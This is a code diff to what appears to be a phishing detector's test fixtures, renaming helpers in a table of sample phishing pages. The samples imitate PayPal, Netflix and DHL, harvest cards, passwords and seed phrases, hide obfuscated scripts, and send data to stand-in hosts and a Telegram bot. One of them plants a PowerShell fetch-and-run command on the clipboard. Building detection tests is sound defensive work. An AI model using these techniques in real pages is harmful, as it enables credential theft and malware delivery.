@@ -1,6 +1,6 @@
 import type { GivenDraft } from "./given-draft.ts"
-import { site } from "./innocent-site.ts"
-import { broken, program, sentByScript } from "./rule-cases.ts"
+import { makeSite } from "./innocent-site.ts"
+import { broken, program, writeScriptedForm } from "./rule-cases.ts"
 
 const login = (attributes = `action="/login" method="post"`) =>
   `<form ${attributes}><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>`
@@ -19,10 +19,10 @@ const ciphered = btoa(
 
 /** A family, and a draft that is flagged and is not without the family. */
 export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDraft]> = [
-  ["borrowed-name", site("signs in under a name", "PayPal: Log in", login())],
+  ["borrowed-name", makeSite("signs in under a name", "PayPal: Log in", login())],
   [
     "borrowed-name",
-    site(
+    makeSite(
       "asks for a card under a name",
       "Netflix - Update your payment details",
       `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`,
@@ -30,7 +30,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "borrowed-name",
-    site(
+    makeSite(
       "makes its form",
       "PayPal: Log in",
       `<div id="a"></div><script>a.innerHTML='<form><input type="pass'+'word"></form>'</script>`,
@@ -38,16 +38,16 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "borrowed-name",
-    site(
+    makeSite(
       "masks a text field",
       "PayPal",
       `<style>.x{-webkit-text-security:disc}</style><form action="/a"><input class="x" name="x"></form>`,
     ),
   ],
-  ["disguised-name", site("writes a name in other letters", "Ferry: Раураl", `<h1>Раураl</h1>${login()}`)],
+  ["disguised-name", makeSite("writes a name in other letters", "Ferry: Раураl", `<h1>Раураl</h1>${login()}`)],
   [
     "wallet-phrase",
-    site(
+    makeSite(
       "asks for a phrase",
       ours,
       `${heading}<form action="/a"><textarea name="t" placeholder="Your seed phrase"></textarea></form>`,
@@ -55,11 +55,11 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "exfiltration",
-    site("sends to a chat", ours, `${heading}${login("")}${send("https://api.telegram.org/bot1:A/sendMessage")}`),
+    makeSite("sends to a chat", ours, `${heading}${login("")}${send("https://api.telegram.org/bot1:A/sendMessage")}`),
   ],
   [
     "base-address",
-    site(
+    makeSite(
       "sends all elsewhere",
       ours,
       `<base href="https://gather.example/">${heading}${paypalLogo}${login(`action="in"`)}`,
@@ -67,11 +67,11 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "kit-action",
-    site("uses a kit", "PayPal ferries", `<h2>Ferry tickets</h2>${paypalLogo}${login(`action="next.php"`)}`),
+    makeSite("uses a kit", "PayPal ferries", `<h2>Ferry tickets</h2>${paypalLogo}${login(`action="next.php"`)}`),
   ],
   [
     "style-log",
-    site(
+    makeSite(
       "logs by style",
       ours,
       `<style>input[value^="a"]{background:url(https://gather.example/a)}</style>${heading}${login()}`,
@@ -79,7 +79,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "hot-links",
-    site(
+    makeSite(
       "borrows an icon",
       "PayPal ferries",
       `<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/favicon.ico"><h2>Ferry tickets</h2>${login()}`,
@@ -87,7 +87,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "frames",
-    site(
+    makeSite(
       "shows another site in full",
       "DHL Tracking",
       `<iframe src="https://gather.example/" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
@@ -95,11 +95,11 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "redirects",
-    site("leads on", "DHL Tracking", `<meta http-equiv="refresh" content="1;url=https://gather.example/">`),
+    makeSite("leads on", "DHL Tracking", `<meta http-equiv="refresh" content="1;url=https://gather.example/">`),
   ],
   [
     "decoding",
-    site(
+    makeSite(
       "runs what it decodes",
       ours,
       `<script>var s=atob("${ciphered}"),o="";for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^(i%2?173:91));document.write(o)</script>`,
@@ -107,7 +107,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "made-pages",
-    site(
+    makeSite(
       "carries a page",
       "PayPal ferries",
       `<h2>Ferry tickets</h2>${paypalLogo}<iframe src="data:text/html,${encodeURIComponent(login())}"></iframe>`,
@@ -125,23 +125,23 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "lure",
-    site("lures", "Ferry", `<h1>Herzlichen Glückwunsch!</h1><form action="/pay"><input name="cardnumber"></form>`),
+    makeSite("lures", "Ferry", `<h1>Herzlichen Glückwunsch!</h1><form action="/pay"><input name="cardnumber"></form>`),
   ],
   [
     "drawn-window",
-    site(
+    makeSite(
       "draws a window",
       ours,
-      `<h1>${ours}</h1>${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${sentByScript("https://gather.example/", password)}`,
+      `<h1>${ours}</h1>${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${writeScriptedForm("https://gather.example/", password)}`,
     ),
   ],
   [
     "picture-page",
-    site("is one picture", "Log in", `<style>body{background:url(img/paypal-login.png)}</style>${login()}`),
+    makeSite("is one picture", "Log in", `<style>body{background:url(img/paypal-login.png)}</style>${login()}`),
   ],
   [
     "gates",
-    site(
+    makeSite(
       "asks only people",
       ours,
       `${heading}<div id="a"></div><script>if(!/bot|crawler/i.test(navigator.userAgent))a.innerHTML='${login()}'</script>`,
@@ -149,19 +149,19 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "card-data",
-    site(
+    makeSite(
       "card and PIN under nothing",
       ours,
-      `<h1>${ours}</h1>${sentByScript("https://gather.example/", `<input name="cardnumber"><input name="pin">`)}`,
+      `<h1>${ours}</h1>${writeScriptedForm("https://gather.example/", `<input name="cardnumber"><input name="pin">`)}`,
     ),
   ],
   [
     "pressure",
-    site("presses for a password", "Webmail", `<h1>Webmail</h1><p>Your mailbox is almost full.</p>${login()}`),
+    makeSite("presses for a password", "Webmail", `<h1>Webmail</h1><p>Your mailbox is almost full.</p>${login()}`),
   ],
   [
     "command",
-    site(
+    makeSite(
       "has a command run",
       "Are you human?",
       `<p>Press Windows + R, then Ctrl + V</p><script>document.onclick=()=>navigator.clipboard.writeText("powershell iwr https://gather.example/a | iex")</script>`,
@@ -169,21 +169,25 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "broken-words",
-    site("has letters in words", ours, `<h1>${broken}</h1>${sentByScript("https://gather.example/", password)}`),
-  ],
-  ["under-name", site("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
-  [
-    "lookalike-address",
-    site(
-      "sends to a host with a name in it",
+    makeSite(
+      "has letters in words",
       ours,
-      `${heading}${sentByScript("https://paypal-check.example/in", password)}`,
+      `<h1>${broken}</h1>${writeScriptedForm("https://gather.example/", password)}`,
     ),
   ],
-  ["taking", site("takes by a form", ours, `${heading}${login(`action="https://gather.example/"`)}`)],
+  ["under-name", makeSite("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
+  [
+    "lookalike-address",
+    makeSite(
+      "sends to a host with a name in it",
+      ours,
+      `${heading}${writeScriptedForm("https://paypal-check.example/in", password)}`,
+    ),
+  ],
+  ["taking", makeSite("takes by a form", ours, `${heading}${login(`action="https://gather.example/"`)}`)],
   [
     "institution",
-    site(
+    makeSite(
       "is a house",
       "Skerry Bank",
       `<h1>Skerry Bank</h1>${login(`action="next.php"`)}<iframe hidden src="a.html"></iframe>`,
